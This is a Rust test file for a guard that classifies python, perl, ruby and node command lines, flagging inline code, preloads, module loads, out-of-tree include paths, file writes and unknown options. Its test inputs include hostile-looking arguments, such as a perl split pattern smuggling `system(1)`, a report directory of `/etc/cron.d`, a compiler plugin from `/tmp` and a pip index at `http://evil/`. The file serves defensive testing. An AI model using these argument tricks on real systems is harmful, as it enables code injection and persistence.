//! Interpreter spec tests (python, perl, ruby, node), named by the attack
//! or the false refusal they stop. The older guards (`guards/table.rs`)
//! run beside these; `guards/tests.rs` keeps testing them.

use super::tests::{ids, reasons};

const NONE: [&str; 0] = [];

#[test]
fn everyday_interpreter_use_trips_nothing() {
    for argv in [
        &["python3", "-m", "pytest", "-x"][..],
        &["python3", "-m", "pytest", "-q", "-k", "not slow", "tests/"],
        &["python3", "script.py", "--anything", "-c", "x"],
        &["python3", "-u", "-W", "ignore", "script.py"],
        &["python3", "-Wignore::DeprecationWarning", "script.py"],
        &["python3", "-Bu", "-X", "dev", "-Ximporttime", "script.py"],
        &["python3.11", "-I", "-S", "script.py"],
        &["python", "--check-hash-based-pycs", "never", "script.py"],
        &["python3", "-m", "venv", ".venv"],
        &["python3", "-m", "pip", "install", "requests"],
        &["python3", "-m", "pip", "list"],
        &["python3", "--version"],
        &["python3", "-OO", "-bb", "-vV"],
        &["node", "--test"],
        &["node", "--test", "--test-reporter", "spec", "test/"],
        &["node", "dist/index.js", "--port", "3000"],
        &[
            "node",
            "--enable-source-maps",
            "--max-old-space-size=4096",
            "dist/index.js",
        ],
        &[
            "node",
            "--no-warnings",
            "--warnings",
            "--no-deprecation",
            "app.js",
        ],
        &["node", "--watch", "--watch-path=src", "server.js"],
        &["node", "--title", "svc", "-C", "development", "app.mjs"],
        &["nodejs", "--version"],
        &["node", "--trace_warnings", "app.js"],
        &["node", "--report-dir=reports", "app.js"],
        &["perl", "script.pl", "-e", "x"],
        &["perl", "-w", "-Ilib", "t/basic.t"],
        &["perl", "-wl", "-0777", "script.pl", "in.txt"],
        &["perl", "-c", "script.pl"],
        &["perl", "-xsub", "bundle.pl"],
        &["perl", "-CSD", "-s", "script.pl", "-foo=bar"],
        &["perl", "--", "script.pl", "-MPOSIX"],
        &["ruby", "script.rb", "-e", "x"],
        &["ruby", "-w", "-Ilib", "-Csub", "test.rb"],
        &[
            "ruby",
            "--disable-gems",
            "--enable=frozen-string-literal",
            "script.rb",
        ],
        &["ruby", "-W0", "--encoding", "UTF-8", "--yjit", "script.rb"],
        &[
            "ruby",
            "-W:no-deprecated",
            "--backtrace-limit",
            "5",
            "script.rb",
        ],
    ] {
        assert_eq!(ids(argv), NONE, "{argv:?}");
    }
}

#[test]
fn an_unknown_option_is_asked_and_named_for_each_interpreter() {
    for (argv, id, shown) in [
        (
            &["node", "--foo", "app.js"][..],
            "node.unknown-option",
            "unknown option --foo for node",
        ),
        (
            &["python3", "--foo", "x.py"],
            "python.unknown-option",
            "unknown option --foo for python3",
        ),
        (
            &["python3", "-Z", "x.py"],
            "python.unknown-option",
            "unknown option -Z for python3",
        ),
        (
            &["perl", "-Z", "x.pl"],
            "perl.unknown-option",
            "unknown option -Z for perl",
        ),
        (
            &["ruby", "--foo", "x.rb"],
            "ruby.unknown-option",
            "unknown option --foo for ruby",
        ),
        (
            &["ruby", "-T", "x.rb"],
            "ruby.unknown-option",
            "unknown option -T for ruby",
        ),
    ] {
        assert_eq!(ids(argv), [id], "{argv:?}");
        assert!(reasons(argv)[0].starts_with(shown), "{:?}", reasons(argv));
    }
}

#[test]
fn node_never_abbreviates_an_option() {
    // node refuses `--requi`; reading it as `--require` would be a guess.
    assert_eq!(
        ids(&["node", "--requi", "x.js", "app.js"]),
        ["node.unknown-option"]
    );
    assert_eq!(
        ids(&["node", "--enable-source", "app.js"]),
        ["node.unknown-option"]
    );
}

#[test]
fn node_reads_underscores_in_a_name_as_dashes() {
    assert_eq!(
        ids(&["node", "--inspect_brk", "app.js"]),
        ["node.runs-program"]
    );
    assert_eq!(
        ids(&["node", "--inspect_brk=0", "app.js"]),
        ["node.runs-program"]
    );
    assert_eq!(
        ids(&["node", "--env_file=.env", "app.js"]),
        ["node.loads-code"]
    );
    assert_eq!(
        ids(&["node", "--experimental_loader", "./l.mjs", "a.js"]),
        ["node.loads-code"]
    );
}

#[test]
fn node_preloads_are_asked_however_they_are_written() {
    for argv in [
        &["node", "--require=./x.js", "app.js"][..],
        &["node", "--require", "./x.js", "app.js"],
        &["node", "-r", "./x.js", "app.js"],
        &[
            "node",
            "--import",
            "data:text/javascript,process.exit(1)",
            "app.js",
        ],
        &["node", "--import=./x.mjs", "app.js"],
        &["node", "--loader", "./l.mjs", "app.js"],
        &["node", "--experimental-loader=./l.mjs", "app.js"],
        &["node", "--env-file=.env", "app.js"],
        &["node", "--env-file", ".env", "app.js"],
        &["node", "--env-file-if-exists=.env", "app.js"],
        &["node", "-e", "1", "--require", "./x.js"],
        &["node", "--test", "--test-reporter=./evil.js"],
        &["node", "--experimental-network-imports", "app.mjs"],
        &["node", "--openssl-config=/tmp/o.cnf", "app.js"],
        &["node", "-i"],
    ] {
        assert!(
            ids(argv).contains(&"node.loads-code"),
            "{argv:?}: {:?}",
            ids(argv)
        );
    }
}

#[test]
fn node_inline_code_and_the_inspector_are_asked() {
    assert_eq!(ids(&["node", "-e", "1"]), ["node.loads-code"]);
    assert_eq!(ids(&["node", "--eval=1"]), ["node.loads-code"]);
    assert_eq!(ids(&["node", "-p", "1"]), ["node.loads-code"]);
    assert_eq!(
        ids(&["node", "-pe", "1"]),
        ["node.loads-code", "node.loads-code"]
    );
    assert_eq!(ids(&["node", "--inspect", "app.js"]), ["node.runs-program"]);
    assert_eq!(
        ids(&["node", "--inspect=0.0.0.0:9229", "app.js"]),
        ["node.runs-program"]
    );
    assert_eq!(
        ids(&["node", "--inspect-port", "0", "app.js"]),
        ["node.runs-program"]
    );
    assert_eq!(
        ids(&["node", "--debug-port=0", "app.js"]),
        ["node.runs-program"]
    );
}

#[test]
fn node_short_options_are_not_bundled_nor_take_a_stuck_value() {
    // node refuses all of these: never read as `-r ./x.js`.
    for argv in [
        &["node", "-r./x.js", "app.js"][..],
        &["node", "-r=./x.js", "app.js"],
        &["node", "-ep", "1"],
        &["node", "-vh"],
    ] {
        assert_eq!(ids(argv), ["node.unknown-option"], "{argv:?}");
    }
}

#[test]
fn node_a_value_starting_with_a_dash_is_not_taken() {
    // `node --title --require x.js` is refused by node; never read as an
    // inert title with the preload hidden inside it.
    assert_eq!(
        ids(&["node", "--title", "--require", "x.js"]),
        ["node.unknown-option"]
    );
}

#[test]
fn node_negation_needs_a_boolean() {
    assert_eq!(
        ids(&["node", "--no-require", "app.js"]),
        ["node.unknown-option"]
    );
    assert_eq!(
        ids(&["node", "--no-no-warnings", "app.js"]),
        ["node.unknown-option"]
    );
    assert_eq!(
        ids(&["node", "--no-experimental-network-imports", "a.mjs"]),
        NONE
    );
    assert_eq!(
        ids(&["node", "--enable-source-maps=true", "a.js"]),
        ["node.unknown-option"]
    );
}

#[test]
fn node_v8_options_other_than_the_listed_sizes_are_asked() {
    // `node --v8-options` lists hundreds; the spec lists only the heap and
    // stack sizes, so any other is unknown.
    assert_eq!(
        ids(&["node", "--allow-natives-syntax", "a.js"]),
        ["node.unknown-option"]
    );
    assert_eq!(ids(&["node", "--expose_gc", "a.js"]), NONE);
    assert_eq!(ids(&["node", "--max_old_space_size=100", "a.js"]), NONE);
}

#[test]
fn node_words_after_the_script_are_the_script_s() {
    assert_eq!(
        ids(&["node", "app.js", "--require", "./x.js", "-e", "1"]),
        NONE
    );
    assert_eq!(ids(&["node", "--", "app.js", "--inspect"]), NONE);
    assert_eq!(ids(&["node", "--test", "a.test.js", "--foo"]), NONE);
}

#[test]
fn node_writes_of_reports_outside_the_tree_are_asked() {
    assert_eq!(
        ids(&["node", "--report-dir=/etc/cron.d", "a.js"]),
        ["node.writes-file"]
    );
    assert_eq!(
        ids(&["node", "--redirect-warnings", "/tmp/w", "a.js"]),
        ["node.writes-file"]
    );
    assert_eq!(ids(&["node", "--redirect-warnings", "w.log", "a.js"]), NONE);
}

#[test]
fn python_options_after_the_script_are_the_script_s() {
    assert_eq!(ids(&["python3", "x.py", "-c", "import os"]), NONE);
    assert_eq!(ids(&["python3", "x.py", "-i", "--foo"]), NONE);
    assert_eq!(ids(&["python3", "--", "x.py", "-c", "x"]), NONE);
    // After `-m MODULE` or `-c CODE`: the module's or code's argv.
    assert_eq!(ids(&["python3", "-m", "black", "-i", "--foo"]), NONE);
    assert_eq!(ids(&["python3", "-mpytest", "-c", "setup.cfg"]), NONE);
    assert_eq!(
        ids(&["python3", "-c", "pass", "--foo"]),
        ["python.loads-code"]
    );
}

#[test]
fn python_inline_code_is_asked_however_it_is_bundled() {
    for argv in [
        &["python3", "-c", "import os"][..],
        &["python3", "-cimport os"],
        &["python3", "-Bc", "import os"],
        &["python3", "-BcB"],
        &["python3", "-u", "-Wd", "-Ec", "x"],
        &["python3.11", "-Ic", "x"],
    ] {
        assert_eq!(ids(argv), ["python.loads-code"], "{argv:?}");
    }
}

#[test]
fn python_value_options_take_the_rest_of_the_word_or_the_next_word() {
    // `-W c` is a filter named `c`, not inline code; `-Wc` likewise.
    assert_eq!(ids(&["python3", "-W", "c", "x.py"]), NONE);
    assert_eq!(ids(&["python3", "-Wc", "x.py"]), NONE);
    assert_eq!(ids(&["python3", "-X", "c", "x.py"]), NONE);
    assert_eq!(ids(&["python3", "-W"]), ["python.unknown-option"]);
}

#[test]
fn python_long_options_are_exact_and_take_the_next_word() {
    assert_eq!(
        ids(&["python3", "--check-hash-based-pycs=always", "x.py"]),
        ["python.unknown-option"]
    );
    assert_eq!(
        ids(&["python3", "--check-hash", "always", "x.py"]),
        ["python.unknown-option"]
    );
    assert_eq!(ids(&["python3", "--help-x"]), ["python.unknown-option"]);
}

#[test]
fn python_a_warning_category_that_imports_a_module_is_asked() {
    assert_eq!(
        ids(&["python3", "-W", "ignore::evil.W", "x.py"]),
        ["python.loads-code"]
    );
    assert_eq!(
        ids(&["python3", "-Wignore::evil.W", "x.py"]),
        ["python.loads-code"]
    );
    assert_eq!(
        ids(&["python3", "-BWerror::pkg.mod.W", "x.py"]),
        ["python.loads-code"]
    );
    assert_eq!(
        ids(&["python3", "-W", "ignore:msg.with.dots", "x.py"]),
        NONE
    );
}

#[test]
fn python_a_bytecode_cache_elsewhere_and_the_interactive_prompt_are_asked() {
    assert_eq!(
        ids(&["python3", "-X", "pycache_prefix=/tmp/pc", "x.py"]),
        ["python.loads-code"]
    );
    assert_eq!(
        ids(&["python3", "-Xpycache_prefix=/tmp", "x.py"]),
        ["python.loads-code"]
    );
    assert_eq!(ids(&["python3", "-i", "x.py"]), ["python.loads-code"]);
    assert_eq!(ids(&["python3", "-qi", "x.py"]), ["python.loads-code"]);
}

#[test]
fn python_versioned_names_use_the_python_spec() {
    assert_eq!(ids(&["python3.12", "-c", "1"]), ["python.loads-code"]);
    assert_eq!(ids(&["python", "--foo"]), ["python.unknown-option"]);
}

#[test]
fn perl_inline_code_is_asked_however_it_is_bundled() {
    for argv in [
        &["perl", "-ne", "print", "file"][..],
        &["perl", "-e", "print 1"],
        &["perl", "-eprint"],
        &["perl", "-E", "say 1"],
        &["perl", "-lane", "print $F[0]"],
        &["perl", "-l0e", "print 1"],
        &["perl", "-0777ne", "print"],
        &["perl", "-wE", "say 1"],
    ] {
        assert!(
            ids(argv).contains(&"perl.loads-code"),
            "{argv:?}: {:?}",
            ids(argv)
        );
    }
}

#[test]
fn perl_modules_debuggers_and_split_patterns_are_asked() {
    for argv in [
        &["perl", "-MPOSIX", "-e", "1"][..],
        &["perl", "-MPOSIX", "x.pl"],
        &["perl", "-wMPOSIX", "x.pl"],
        &["perl", "-mstrict", "x.pl"],
        &["perl", "-Mlib=/tmp/evil", "x.pl"],
        &["perl", "-d:Trace", "x.pl"],
        &["perl", "-d", "x.pl"],
        &["perl", "-F/x/);system(1);#", "x.pl"],
    ] {
        assert!(
            ids(argv).contains(&"perl.loads-code"),
            "{argv:?}: {:?}",
            ids(argv)
        );
    }
    // perl refuses `-M strict`: no module, no guess.
    assert_eq!(
        ids(&["perl", "-M", "strict", "x.pl"]),
        ["perl.unknown-option"]
    );
}

#[test]
fn perl_an_include_directory_outside_the_tree_is_asked() {
    assert_eq!(
        ids(&["perl", "-I/tmp/evil", "script.pl"]),
        ["perl.other-tree"]
    );
    assert_eq!(
        ids(&["perl", "-I", "/tmp/evil", "script.pl"]),
        ["perl.other-tree"]
    );
    assert_eq!(
        ids(&["perl", "-wI/tmp/evil", "script.pl"]),
        ["perl.other-tree"]
    );
    assert_eq!(
        ids(&["perl", "-wI", "../../evil", "script.pl"]),
        ["perl.other-tree"]
    );
    assert_eq!(ids(&["perl", "-x/tmp", "script.pl"]), ["perl.other-tree"]);
}

#[test]
fn perl_in_place_editing_and_path_lookup_are_asked() {
    assert_eq!(ids(&["perl", "-i", "script.pl", "f"]), ["perl.writes-file"]);
    assert_eq!(
        ids(&["perl", "-i.bak", "script.pl", "f"]),
        ["perl.writes-file"]
    );
    assert_eq!(
        ids(&["perl", "-wi.bak", "script.pl", "f"]),
        ["perl.writes-file"]
    );
    assert_eq!(ids(&["perl", "-S", "tool"]), ["perl.runs-program"]);
}

#[test]
fn perl_a_stuck_value_ends_where_perl_ends_it() {
    // `-0777` and `-l0` take digits; the letters after are switches again.
    assert_eq!(ids(&["perl", "-0777S", "tool"]), ["perl.runs-program"]);
    assert_eq!(ids(&["perl", "-l0S", "tool"]), ["perl.runs-program"]);
    // `-C`, `-D` and `-V` take the whole rest of the word.
    assert_eq!(ids(&["perl", "-CSD", "x.pl"]), NONE);
    assert_eq!(ids(&["perl", "-Dxe", "x.pl"]), NONE);
}

#[test]
fn perl_words_after_the_program_are_the_program_s() {
    assert_eq!(ids(&["perl", "x.pl", "-MPOSIX", "-I/tmp", "-e", "1"]), NONE);
    assert_eq!(ids(&["perl", "--", "-e"]), NONE);
    assert_eq!(ids(&["perl", "--version"]), NONE);
    assert_eq!(ids(&["perl", "--versio"]), ["perl.unknown-option"]);
}

#[test]
fn ruby_requires_inline_code_and_directories_are_asked_however_written() {
    for (argv, id) in [
        (&["ruby", "-rsocket", "x.rb"][..], "ruby.loads-code"),
        (&["ruby", "-r", "socket", "x.rb"], "ruby.loads-code"),
        (&["ruby", "-wrsocket", "x.rb"], "ruby.loads-code"),
        (&["ruby", "-e", "1"], "ruby.loads-code"),
        (&["ruby", "-we", "1"], "ruby.loads-code"),
        (&["ruby", "-W2e", "1"], "ruby.loads-code"),
        (&["ruby", "-0777ne", "1"], "ruby.loads-code"),
        (&["ruby", "-I/tmp/evil", "x.rb"], "ruby.other-tree"),
        (&["ruby", "-wI", "/tmp/evil", "x.rb"], "ruby.other-tree"),
        (&["ruby", "-C", "/tmp/evil", "x.rb"], "ruby.other-tree"),
        (&["ruby", "-C/tmp/evil", "x.rb"], "ruby.other-tree"),
        (&["ruby", "-x/tmp/evil", "x.rb"], "ruby.other-tree"),
        (&["ruby", "-i.bak", "x.rb", "f"], "ruby.writes-file"),
        (&["ruby", "-S", "gem", "install", "x"], "ruby.runs-program"),
        (
            &["ruby", "--mjit-debug=-fplugin=/tmp/p.so", "x.rb"],
            "ruby.runs-program",
        ),
    ] {
        assert_eq!(ids(argv), [id], "{argv:?}");
    }
}

#[test]
fn ruby_long_options_are_exact() {
    assert_eq!(ids(&["ruby", "--verb", "x.rb"]), ["ruby.unknown-option"]);
    assert_eq!(
        ids(&["ruby", "--encod=UTF-8", "x.rb"]),
        ["ruby.unknown-option"]
    );
    assert_eq!(ids(&["ruby", "--version=1"]), ["ruby.unknown-option"]);
    assert_eq!(ids(&["ruby", "--dump", "insns", "x.rb"]), NONE);
}

#[test]
fn ruby_words_after_the_script_are_the_script_s() {
    assert_eq!(ids(&["ruby", "script.rb", "-e", "x", "-rsocket"]), NONE);
    assert_eq!(ids(&["ruby", "--", "script.rb", "-e", "x"]), NONE);
}

/// `python -m pip` is pip: its arguments are judged by pip's spec, so the
/// index a download comes from, a target outside the tree or an option
/// pip's spec does not know are asked as they are for `pip` itself.
#[test]
fn python_m_pip_is_judged_as_pip() {
    for (argv, id) in [
        (
            &[
                "python3",
                "-m",
                "pip",
                "install",
                "--index-url",
                "http://evil/",
                "x",
            ][..],
            "pip.loads-code",
        ),
        (
            &[
                "python",
                "-m",
                "pip3",
                "install",
                "--extra-index-url=http://e/",
                "x",
            ],
            "pip.loads-code",
        ),
        (
            &["python3", "-m", "pip", "install", "--no-such-option", "x"],
            "pip.unknown-option",
        ),
        (
            &["python3", "-m", "pip", "nosuchcommand"],
            "pip.unknown-subcommand",
        ),
    ] {
        assert!(ids(argv).contains(&id), "{argv:?}: {:?}", ids(argv));
    }
}
